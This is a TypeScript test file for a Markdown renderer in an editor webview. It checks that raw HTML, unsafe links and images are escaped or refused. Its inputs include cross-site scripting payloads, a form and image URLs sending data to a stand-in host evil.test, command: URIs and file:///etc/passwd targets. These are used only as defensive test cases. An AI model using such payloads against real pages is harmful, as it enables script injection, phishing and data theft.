import assert from 'node:assert/strict';
import { renderMarkdown } from '../../../src/webview/markdown/markdown';
import { assertSafe } from './safeHtml';
import { cpuMilliseconds } from '../../support/cpuTime';

/** The HTML without `dir="auto"`, which each block of text has. */
function render(source: string): string {
  const html = renderMarkdown(source, 'Copy code');
  assertSafe(html);
  return html.replaceAll(' dir="auto"', '').trim();
}

describe('renderMarkdown', () => {
  it('shifts headings below those of the panel, down to the sixth level', () => {
    assert.equal(render('# a'), '<h3>a</h3>');
    assert.equal(render('a\n==='), '<h3>a</h3>');
    assert.equal(render('#### a'), '<h6>a</h6>');
    assert.equal(render('###### a'), '<h6>a</h6>');
  });

  it('takes <br> for a line break, and no other tag for anything', () => {
    assert.equal(render('a<br>b<br/>c<BR />d'), '<p>a<br>\nb<br>\nc<br>\nd</p>');
    assert.equal(render('a<br>\nb'), '<p>a<br>\nb</p>');
    assert.equal(render('- a<br>b'), '<ul>\n<li>a<br>\nb</li>\n</ul>');
    assert.equal(render('# a<br>b'), '<h3>a<br>\nb</h3>');
    assert.match(render('| a<br>b |\n|---|\n| **c**<br/><br>`d<br>` |'), /aria-label="a b"/);
    assert.match(
      render('| a |\n|---|\n| **c**<br/><br>`d<br>` |'),
      /<td><strong>c<\/strong><br>\n<br>\n<code>d&lt;br&gt;<\/code><\/td>/,
    );
    for (const text of ['<br onclick=x>', '<brx>', '<b>', '<br', '</br>', '< br>', '\\<br>']) {
      assert.match(render(`a${text}b`), /^<p>a&lt;/, text);
    }
    assert.match(render('```\na<br>b\n```'), /a&lt;br&gt;b/);
  });

  it('keeps line breaks, emphasis, lists and their numbers', () => {
    assert.equal(render('a\nb'), '<p>a<br>\nb</p>');
    assert.equal(render('**a** *b* ~~c~~'), '<p><strong>a</strong> <em>b</em> <s>c</s></p>');
    assert.equal(render('3. a'), '<ol start="3">\n<li>a</li>\n</ol>');
  });

  it('puts a table into a named group that can scroll, and aligns by class', () => {
    const html = render('| Name | Size |\n| :-: | --: |\n| a | 1 |');
    assert.match(html, /^<div class="table" role="group" aria-label="Name, Size"><table>/);
    assert.match(html, /<th class="align-center">Name<\/th>/);
    assert.match(html, /<td class="align-right">1<\/td>/);
    assert.match(html, /<\/table><\/div>$/);
    assert.doesNotMatch(html, /style/);
  });

  it('gives a code block its language and a labelled button', () => {
    const html = render('```ts title="x"\nif (a < b) {}\n```');
    assert.match(html, /data-language="ts"/);
    assert.match(html, /<button type="button" class="tool copy-code" aria-label="Copy code"/);
    assert.match(html, /<pre><code>if \(a &lt; b\) {}\n<\/code><\/pre>/);
    assert.match(render('    indented'), /data-language=""/);
  });

  it('parts a text that is longer than any paragraph, and loses nothing of it', () => {
    for (const unit of ['a', 'ש', 'שלום ', '𠮷', 'a & b ']) {
      const source = unit.repeat(60_000 / unit.length).trim();
      for (const html of [render(source), render(`| a |\n|---|\n| \`${source}\` |`)]) {
        const parts = [...html.matchAll(/<span class="part">(.*?)<\/span>/g)].map(
          ([, text]) => text,
        );
        assert.ok(parts.length >= 6);
        assert.ok(parts.every((text = '') => text.replaceAll('&amp;', '&').length <= 10_000));
        assert.equal(parts.join('').replaceAll('&amp;', '&'), source);
      }
    }
    assert.doesNotMatch(render('lorem ipsum '.repeat(800)), /span/);
  });

  it('renders an open fence as code to the end', () => {
    assert.match(render('```\nab'), /<pre><code>ab\n?<\/code><\/pre>/);
  });

  it('escapes what a code block, its language, a table header or the label could break out of', () => {
    render('```"><img/src=x/onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```');
    render('| "><img src=x onerror=alert(1)> |\n|---|\n| a |');
    const html = renderMarkdown('    x', '"><script>alert(1)</script>');
    assertSafe(html);
  });

  const rawHtml = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'a <b onclick="x()">b</b>',
    '<iframe srcdoc="<script>parent.x()</script>">',
    '<style>body{display:none}</style>',
    '<svg/onload=alert(1)>',
    '<a href="command:workbench.action.quit">quit</a>',
    '<!-- comment --><meta http-equiv=refresh content=0>',
    '<form action=https://evil.test><button>Send</button></form>',
    '</article></main><h1>Sign in again</h1>',
    '<base href="https://evil.test/">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<x\n onfocus=alert(1) autofocus tabindex=1>',
  ];
  for (const source of rawHtml) {
    it(`shows raw HTML as text: ${JSON.stringify(source)}`, () => {
      const html = render(source);
      assert.match(html, /^<p>.*&lt;/s);
      assert.equal(render(`- > ${source}`).includes('&lt;'), true);
    });
  }
});

describe('links in a reply', () => {
  it('go to http, https and mailto, and say where', () => {
    assert.equal(
      render('[docs](https://a.test/x?a=1&b=2 "harmless")'),
      '<p><a href="https://a.test/x?a=1&amp;b=2" title="https://a.test/x?a=1&amp;b=2" rel="noopener noreferrer">docs</a></p>',
    );
    assert.match(render('<HTTP://a.test>'), /<a href="HTTP:\/\/a.test"/);
    assert.match(render('<me@a.test>'), /<a href="mailto:me@a.test"/);
    assert.match(render('[x][1]\n\n[1]: https://a.test'), /<a href="https:\/\/a.test"/);
  });

  it('show a host with foreign letters as it is asked for', () => {
    assert.match(render('[x](https://аpple.test)'), /title="https:\/\/xn--pple-43d.test"/);
  });

  const bare: Record<string, [link: string, rest?: string]> = {
    'https://a.test': ['https://a.test'],
    '(https://a.test/b_c*d*e)': ['https://a.test/b_c*d*e', '()'],
    'See https://a.test/x?y=[1]. Next': ['https://a.test/x?y=[1]', 'See . Next'],
    '**https://a.test/x**': ['https://a.test/x'],
    '详见https://a.test/路径。谢谢': ['https://a.test/路径', '详见。谢谢'],
    '「http://localhost:3000/x」です': ['http://localhost:3000/x', '「」です'],
    'https://a.test/x<br>y': ['https://a.test/x', 'y'],
    '- [ ] https://a.test': ['https://a.test'],
    'http://xn--pple-43d.test': ['http://xn--pple-43d.test'],
  };
  for (const [source, [address, rest = '']] of Object.entries(bare)) {
    it(`need no marks: ${source}`, () => {
      const html = render(source);
      assert.match(html, /<a href="https?:[^"]*" title="[^"]*" rel="noopener noreferrer">/);
      assert.equal(/<a [^>]*>([^<]*)<\/a>/.exec(html)?.[1], address);
      assert.equal(html.replace(/<a .*<\/a>|<[^>]*>/g, '').trim(), rest);
    });
  }

  for (const source of [
    'www.a.test and a.test',
    'me@a.test',
    'mailto:me@a.test',
    'ftp://a.test //a.test',
    'command://a.test vscode://a.test file://a/b',
    'xhttps://a.test',
    '`https://a.test`',
    'javascript://a.test/%0aalert(1)',
  ]) {
    it(`are not made of ${source}`, () => {
      assert.doesNotMatch(render(source), /<a|href/);
    });
  }

  it('are not made within links', () => {
    assert.equal(render('[https://a.test](https://b.test)').match(/<a /g)?.length, 1);
    assert.doesNotMatch(render('[https://a.test](command:x)'), /command/);
  });

  const refused = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;vascript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    '%6aavascript:alert(1)',
    '\\javascript:alert(1)',
    '&#1;javascript:alert(1)',
    'vbscript:x',
    'data:text/html;base64,PHNjcmlwdD4=',
    'data:image/png;base64,AAAA',
    'command:workbench.action.terminal.new',
    'command:sightline.deleteApiKey?%5B%5D',
    'COMMAND:x',
    'vscode:extension/evil.evil',
    'vscode-insiders://x',
    'vscode-webview://x',
    'file:///etc/passwd',
    'ftp://a.test',
    'blob:https://a.test/1',
    'ws://a.test',
    '//a.test/x',
    '/etc/passwd',
    '../secret',
    '#fragment',
    '?query',
    'https:a.test',
    'https:/a.test',
    'https:\\\\a.test',
    'http:///a.test',
    'https://',
    'https://[',
    'mailto:',
    'x-https://a.test',
  ];
  for (const target of refused) {
    it(`are text where they go to ${JSON.stringify(target)}`, () => {
      for (const source of [
        `[label](${target})`,
        `[label](<${target}>)`,
        `[label][r]\n\n[r]: ${target}`,
        `![[label](${target})](https://a.test/b.png)`,
      ]) {
        const html = render(source);
        assert.doesNotMatch(html, /<a|href/);
        assert.match(html, /label/);
      }
      assert.doesNotMatch(render(`<${target}>`), /<a|href/);
    });
  }

  it('keep the formatting of their text where they are refused', () => {
    assert.equal(
      render('[**see** `a.ts`](src/a.ts) then [b](https://b.test)'),
      '<p><span><strong>see</strong> <code>a.ts</code></span> then ' +
        '<a href="https://b.test" title="https://b.test" rel="noopener noreferrer">b</a></p>',
    );
  });
});

describe('images in a reply', () => {
  for (const [source, text] of [
    ['![a chart](https://evil.test/p.png?d=secret)', 'a chart'],
    ['![*a* `b`](data:image/png;base64,AAAA)', 'a b'],
    ['![][r]\n\n[r]: https://evil.test/p.png', ''],
    ['![<script>](x)', '&lt;script&gt;'],
    ['![](https://evil.test/p.png)', ''],
    ['![a ![b](https://evil.test/1)](https://evil.test/2)', 'a b'],
  ] as const) {
    it(`leave their alt text alone: ${source.split('\n')[0] ?? ''}`, () => {
      assert.equal(render(source), `<p>${text}</p>`);
    });
  }

  it('leave a link around them in place', () => {
    assert.match(
      render('[![logo](https://evil.test/p.png)](https://a.test)'),
      /^<p><a [^>]*>logo<\/a><\/p>$/,
    );
  });
});

describe('hostile Markdown in bulk', () => {
  it('is safe in thousands of random mixtures', () => {
    const pieces = [
      '[', ']', '(', ')', '![', '](', '<', '>', '"', "'", '`', '```', '\n', '\n\n', '    ', '| ', '|-|\n',
      '*', '**', '_', '~~', '# ', '- ', '1. ', '> ', '&', '&#x3c;', '&quot;', '\\', '<script>', '</a>',
      'javascript:alert(1)', 'command:x', 'https://a.test', 'data:text/html,x', ' onerror=x ', 'style=',
      '[r]: ', '[r]', '<img src=x>', 'mailto:a@b', '\u0000', '\u202e', '😀', 'text',
    ]; // prettier-ignore
    let seed = 42;
    const random = (below: number): number => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return Math.floor((seed / 2_147_483_648) * below);
    };
    for (let round = 0; round < 5000; round++) {
      const source = Array.from({ length: 3 + random(25) }, () => pieces[random(pieces.length)]);
      render(source.join(''));
    }
  });

  const large: Record<string, string> = {
    'open brackets': '['.repeat(50_000),
    'open links': '[a]('.repeat(12_500),
    'open images': '!['.repeat(25_000),
    'open emphasis': '**a *b '.repeat(7_000),
    stars: '*'.repeat(50_000),
    'backticks of all lengths': Array.from({ length: 300 }, (_, n) => '`'.repeat(n)).join('x'),
    'nested quotes': '> '.repeat(25_000),
    'nested lists': '- '.repeat(25_000),
    entities: '&#'.repeat(25_000),
    spaces: `${' '.repeat(50_000)}x`,
    'a wide table': `${'|a'.repeat(400)}\n${'|-'.repeat(400)}\n${'|\n'.repeat(1500)}`,
    references: Array.from({ length: 3000 }, (_, n) => `[r${n}]: https://a.test/${n}`).join('\n'),
    '20,000 words': 'lorem ipsum dolor sit\n\n'.repeat(5000),
  };
  for (const [name, source] of Object.entries(large)) {
    it(`takes no time that grows out of hand: ${name}`, () => {
      const start = cpuMilliseconds();
      const html = renderMarkdown(source, 'Copy code');
      assert.ok(cpuMilliseconds() - start < 2000);
      assertSafe(html);
    });
  }
});
